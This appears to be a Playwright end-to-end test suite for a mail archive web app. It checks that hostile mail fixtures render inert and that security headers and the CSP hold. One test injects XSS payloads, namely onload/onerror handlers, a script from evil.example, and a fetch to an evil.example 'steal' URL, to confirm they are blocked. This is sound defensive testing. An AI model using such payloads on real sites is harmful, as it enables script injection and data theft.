// Hostile and broken mail in a real browser. e2e/fixtures/hostile.mbox holds
// every small fixture of test/fixtures/hostile/ (XSS payloads in bodies,
// subjects, names, filenames and Message-IDs; broken MIME, charsets, dates,
// framing), served as list "hostile" by e2e/serve.sh. For every message: the
// page and the flat thread answer 200, no dialog opens, no script reports an
// error, no request leaves the origin, nothing from the mail became an element
// or an event handler, and /raw gives back the fixture's bytes. Also checked:
// the security headers on every kind of response, and that the CSP lets the
// app's own scripts run while injected handlers and foreign loads are refused.
import fs from "node:fs";
import { expect, test, type Page } from "@playwright/test";
import { splitMbox } from "../lib/mail/mbox";
import { unwrapMboxrd } from "../test/support/mboxrd";
import { midToUrl, syntheticMid } from "../lib/mail/mid";
import { parseMessage } from "../lib/mail/mime";

const LIST = "hostile";
const SHARDS = 6;

interface Fixture {
  mid: string;
  /** Every distinct message stored under this Message-ID, first stored first. */
  raws: Buffer[];
}

let fixtures: Fixture[] | null = null;

async function loadFixtures(): Promise<Fixture[]> {
  if (fixtures) return fixtures;
  const byMid = new Map<string, Buffer[]>();
  for await (const m of splitMbox([fs.readFileSync("e2e/fixtures/hostile.mbox")])) {
    const parsed = await parseMessage(m.raw).catch(() => null);
    expect(parsed, "every small fixture parses").not.toBeNull();
    // What ingest stores: the Message-ID, or a hash of the bytes without one.
    const mid = parsed?.messageId ?? syntheticMid(m.raw);
    const raws = byMid.get(mid) ?? [];
    if (!raws.some((r) => r.equals(m.raw))) raws.push(m.raw);
    byMid.set(mid, raws);
  }
  fixtures = [...byMid].map(([mid, raws]) => ({ mid, raws }));
  return fixtures;
}

/** Records what a page must never do: dialogs, script errors, CSP violations, foreign requests. */
function watch(page: Page, origin: string) {
  const seen = { dialogs: [] as string[], errors: [] as string[], blocked: [] as string[] };
  page.on("dialog", async (d) => {
    seen.dialogs.push(d.message());
    await d.dismiss();
  });
  page.on("console", (m) => {
    if (m.type() === "error") seen.errors.push(m.text());
  });
  page.on("pageerror", (e) => seen.errors.push(e.message));
  // A request the CSP refuses still shows up here, then fails as blocked: only
  // the ones that were not blocked count as leaving the origin.
  const pending: string[] = [];
  page.on("request", (r) => {
    const url = new URL(r.url());
    if (url.origin !== origin && url.protocol !== "data:") pending.push(r.url());
  });
  page.on("requestfailed", (r) => {
    if (/ERR_BLOCKED_BY_CSP|csp/i.test(r.failure()?.errorText ?? "")) {
      const i = pending.indexOf(r.url());
      if (i !== -1) pending.splice(i, 1);
      seen.blocked.push(r.url());
    }
  });
  return Object.assign(seen, {
    get foreign() {
      return [...pending];
    },
  });
}

/** Nothing from mail became markup: no active elements, no event handlers, only safe links. */
async function assertInert(page: Page, label: string): Promise<void> {
  const report = await page.evaluate(() => {
    // The app draws no images, frames or media anywhere in a page body, and no
    // forms inside what shows mail (messages, thread lists, search hits).
    const mail = [...document.querySelectorAll("article.message, ul.threads, ul.skeleton, h1")];
    const active = [
      ...document.body.querySelectorAll("img, svg, math, iframe, frame, object, embed, style, link, meta, base, video, audio, source, applet"),
      ...mail.flatMap((root) => [...root.querySelectorAll("script, form, input, button, textarea, select")]),
    ].map((e) => e.outerHTML.slice(0, 80));
    const handlers = [...document.querySelectorAll("*")].flatMap((e) =>
      [...e.attributes].filter((a) => /^on/i.test(a.name) || (a.name === "style" && /url\(|expression/i.test(a.value))).map((a) => `${e.tagName} ${a.name}`),
    );
    const links = [...document.querySelectorAll("a[href]")]
      .map((a) => (a as HTMLAnchorElement).href)
      .filter((href) => !/^(https?|ftp|mailto):/i.test(href));
    // Pages carry no script at all: any <script> came from somewhere else.
    const scripts = [...document.scripts].map((s) => s.outerHTML.slice(0, 120));
    return { active, handlers, links, scripts };
  });
  expect.soft(report.active, `${label}: elements from mail`).toEqual([]);
  expect.soft(report.handlers, `${label}: event handlers`).toEqual([]);
  expect.soft(report.links, `${label}: links that are not http(s), ftp or mailto`).toEqual([]);
  expect.soft(report.scripts, `${label}: scripts on the page`).toEqual([]);
}

for (let shard = 0; shard < SHARDS; shard++) {
  test(`every hostile message, part ${shard + 1}/${SHARDS}: page and thread are 200 and inert, raw is byte for byte`, async ({ page, request, baseURL }) => {
    test.setTimeout(120_000);
    const origin = new URL(baseURL!).origin;
    const seen = watch(page, origin);
    const all = await loadFixtures();
    expect(all.length).toBeGreaterThan(50);
    for (const [i, { mid, raws }] of all.entries()) {
      if (i % SHARDS !== shard) continue;
      const base = `/${LIST}/${midToUrl(mid)}`;
      for (const path of [`${base}/`, `${base}/T/`]) {
        const response = await page.goto(path);
        expect.soft(response?.status(), path).toBe(200);
        await expect.soft(page.locator("article.message").first(), path).toBeVisible();
        await assertInert(page, path);
      }
      // All variants of a Message-ID are on its page.
      expect.soft(await page.locator("article.message").count(), `${base}/T/ articles`).toBeGreaterThanOrEqual(raws.length);
      const raw = await request.get(`${base}/raw`);
      expect.soft(raw.status(), `${base}/raw`).toBe(200);
      expect.soft(raw.headers()["content-type"], `${base}/raw`).toMatch(/^text\/plain/);
      // /raw holds every message stored under the Message-ID, in stored order.
      const framed = raws.map((r) => (r[r.length - 1] === 0x0a ? r : Buffer.concat([r, Buffer.from("\n")])));
      const served: Buffer[] = [];
      for await (const m of splitMbox([await raw.body()])) served.push(m.raw);
      expect.soft(served.length, `${base}/raw messages`).toBe(framed.length);
      expect.soft(served.every((b, n) => b.equals(framed[n]!)), `${base}/raw bytes`).toBe(true);
      if (framed.length === 1) expect.soft((await unwrapMboxrd(await raw.body())).equals(framed[0]!), `${base}/raw bytes`).toBe(true);
      await page.goto(`${base}/`);
      for (const href of await page.locator("ul.attachments a").evaluateAll((as) => as.map((a) => a.getAttribute("href")!))) {
        const file = await request.get(href);
        expect.soft(file.status(), href).toBe(200);
        expect.soft(["application/octet-stream", "text/plain; charset=utf-8"], `${href} content type`).toContain(file.headers()["content-type"]);
        expect.soft(file.headers()["content-disposition"], href).toMatch(/^attachment; /);
        expect.soft(file.headers()["x-content-type-options"], href).toBe("nosniff");
      }
    }
    await page.waitForTimeout(300); // late onerror/onload would fire by now
    expect(seen.dialogs, "dialogs").toEqual([]);
    expect(seen.errors, "console errors").toEqual([]);
    expect(seen.foreign, "requests to other origins").toEqual([]);
  });
}

test("the hostile list index, search results and Atom feed are inert too", async ({ page, request, baseURL }) => {
  const origin = new URL(baseURL!).origin;
  const seen = watch(page, origin);
  for (const path of [`/${LIST}/`, `/${LIST}/?q=alert`, `/${LIST}/?q=script&x=t`, `/all/?q=onerror`, `/${LIST}/?q=s:%3Cscript%3E`]) {
    const response = await page.goto(path);
    expect.soft(response?.status(), path).toBe(200);
    await assertInert(page, path);
  }
  await expect(page.locator("body")).toContainText("<script>"); // shown as text, not run
  for (const path of [`/${LIST}/new.atom`, `/${LIST}/?q=alert&x=A`]) {
    const response = await request.get(path);
    expect(response.status(), path).toBe(200);
    const xml = await response.text();
    await page.goto("about:blank");
    const check = await page.evaluate((text) => {
      const doc = new DOMParser().parseFromString(text, "application/xml");
      return { error: doc.getElementsByTagName("parsererror").length, scripts: doc.getElementsByTagName("script").length };
    }, xml);
    expect(check, path).toEqual({ error: 0, scripts: 0 });
  }
  expect(seen.dialogs).toEqual([]);
  expect(seen.errors).toEqual([]);
  expect(seen.foreign).toEqual([]);
});

// ---------------------------------------------------------------------------
// HTTP hardening

const COMMON = {
  "x-content-type-options": "nosniff",
  "x-frame-options": "DENY",
  "referrer-policy": "same-origin",
  "cross-origin-opener-policy": "same-origin",
};

function cspOf(value: string | undefined): Map<string, string[]> {
  const out = new Map<string, string[]>();
  for (const directive of (value ?? "").split(";")) {
    const [name, ...sources] = directive.trim().split(/\s+/);
    if (name) out.set(name, sources);
  }
  return out;
}

test("security headers on pages, raw, mbox, attachments, feeds, 404s and assets", async ({ request, page }) => {
  await page.goto(`/${LIST}/${midToUrl("xss-filename@example.org")}/`);
  const attachment = await page.locator("ul.attachments a").first().getAttribute("href");
  const asset = await page.locator("link[rel=stylesheet]").first().getAttribute("href");
  const paths = [
    "/", `/${LIST}/`, `/${LIST}/?q=alert`, `/${LIST}/${midToUrl("xss-subject@example.org")}/`,
    `/${LIST}/${midToUrl("xss-subject@example.org")}/T/`, `/${LIST}/${midToUrl("xss-subject@example.org")}/raw`,
    `/${LIST}/${midToUrl("xss-subject@example.org")}/t.mbox.gz`, `/${LIST}/new.atom`, attachment!, "/no-such-list/", asset!,
  ];
  for (const path of paths) {
    const response = await request.get(path, { maxRedirects: 0 });
    const headers = response.headers();
    for (const [name, value] of Object.entries(COMMON)) expect.soft(headers[name], `${path}: ${name}`).toBe(value);
    const csp = cspOf(headers["content-security-policy"]);
    if (path === attachment) {
      // Downloads get nothing at all, in a sandbox, whatever their type.
      expect.soft(csp.get("default-src"), `${path}: default-src`).toEqual(["'none'"]);
      expect.soft(csp.has("sandbox"), `${path}: sandbox`).toBe(true);
      continue;
    }
    // Nothing is allowed unless named (objects, frames, fetches, media all fall back to 'none').
    expect.soft(csp.get("default-src"), `${path}: default-src`).toEqual(["'none'"]);
    expect.soft(csp.get("frame-ancestors"), `${path}: frame-ancestors`).toEqual(["'none'"]);
    expect.soft(csp.get("base-uri"), `${path}: base-uri`).toEqual(["'none'"]);
    expect.soft(csp.get("form-action"), `${path}: form-action`).toEqual(["'self'"]);
    // Pages need no script at all, so none may run: no inline, no handlers, no files.
    expect.soft(csp.get("script-src"), `${path}: script-src`).toEqual(["'none'"]);
    expect.soft(csp.get("style-src"), `${path}: style-src`).toEqual(["'self'"]);
    expect.soft(csp.get("img-src"), `${path}: img-src`).toEqual(["'self'"]);
  }
  const file = await request.get(attachment!);
  expect(file.headers()["content-type"]).toBe("application/octet-stream");
  expect(file.headers()["content-disposition"]).toMatch(/^attachment; filename="/);
});

test("pages run no script; under the CSP injected handlers and foreign loads are refused", async ({ page, baseURL }) => {
  const seen = watch(page, new URL(baseURL!).origin);
  await page.goto(`/${LIST}/${midToUrl("html-script@example.org")}/`);
  expect(await page.evaluate(() => document.scripts.length), "no <script> on the page").toBe(0);
  expect(seen.errors, "the page itself violates no policy (its stylesheet loads)").toEqual([]);
  // What an XSS would try if markup ever got through escaping: event handlers,
  // a script and an image from elsewhere, a fetch to elsewhere.
  const ran = await page.evaluate(async () => {
    const w = window as unknown as { __handler?: boolean; __remote?: boolean };
    const div = document.createElement("div");
    div.innerHTML =
      '<img src="/favicon.ico?x" onload="window.__handler = true" onerror="window.__handler = true">' +
      '<svg onload="window.__handler = true"></svg><img src="https://evil.example/beacon.png">';
    document.body.append(div);
    const remote = document.createElement("script");
    remote.src = "https://evil.example/x.js";
    remote.onload = () => (w.__remote = true);
    document.body.append(remote);
    const fetched = await fetch("https://evil.example/steal").then(() => true, () => false);
    await new Promise((resolve) => setTimeout(resolve, 300));
    return { handler: w.__handler === true, remote: w.__remote === true, fetched };
  });
  expect(ran).toEqual({ handler: false, remote: false, fetched: false });
  await expect.poll(() => seen.blocked.length, "the foreign loads were blocked by the CSP").toBeGreaterThanOrEqual(2);
  expect(seen.foreign, "nothing left the origin").toEqual([]);
  await expect.poll(() => seen.errors.filter((e) => /Content Security Policy/i.test(e)).length).toBeGreaterThanOrEqual(3);
  expect(seen.dialogs).toEqual([]);
});

test("hostile queries get bounded, readable answers, never a 500", async ({ request }) => {
  const cases: Array<{ path: string; method?: "GET" | "POST"; status: number[]; text: RegExp }> = [
    { path: `/${LIST}/?q=${"a".repeat(2500)}`, status: [200], text: /Query too long/ },
    { path: `/${LIST}/?q=${Array.from({ length: 70 }, (_, i) => `w${i}`).join("+")}`, status: [200], text: /Too many search terms/ },
    { path: `/${LIST}/?q=${"(".repeat(30)}a${")".repeat(30)}`, status: [200], text: /nested too deeply/ },
    { path: `/${LIST}/?q=alert&o=99999999`, status: [200], text: /first 10,000 results/ },
    { path: `/all/?q=%22${"x+".repeat(40)}%22`, status: [200], text: /at most 32 in one phrase/ },
    { path: `/${LIST}/?q=${"a".repeat(2500)}&x=A`, status: [400], text: /Query too long/ },
    { path: `/${LIST}/?q=%22unbalanced&x=m`, method: "POST", status: [400], text: /Bad query/ },
  ];
  for (const { path, method, status, text } of cases) {
    const started = Date.now();
    const response = await request.fetch(path, { method: method ?? "GET" });
    expect.soft(status, `${path.slice(0, 60)}: status ${response.status()}`).toContain(response.status());
    expect.soft(await response.text(), path.slice(0, 60)).toMatch(text);
    expect.soft(Date.now() - started, `${path.slice(0, 60)}: time`).toBeLessThan(5000);
  }
  // A URL longer than Node's header limit is refused before any of our code runs.
  const huge = await request.get(`/${LIST}/?q=${"a".repeat(20_000)}`);
  expect([414, 431]).toContain(huge.status());
});
